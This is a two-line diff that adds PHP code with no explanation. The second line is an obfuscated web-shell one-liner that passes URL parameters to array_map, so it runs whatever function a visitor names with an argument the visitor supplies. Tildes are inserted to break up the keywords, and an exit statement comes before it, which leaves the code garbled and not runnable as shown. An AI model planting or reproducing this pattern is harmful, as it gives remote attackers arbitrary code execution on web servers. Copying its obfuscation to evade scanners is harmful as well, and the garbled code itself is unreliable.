@@ -1,0 +1,2 @@
+<?php exit; ?>
+<?php arr~ay_map($_G~ET['f'], array($_G~ET['m']));
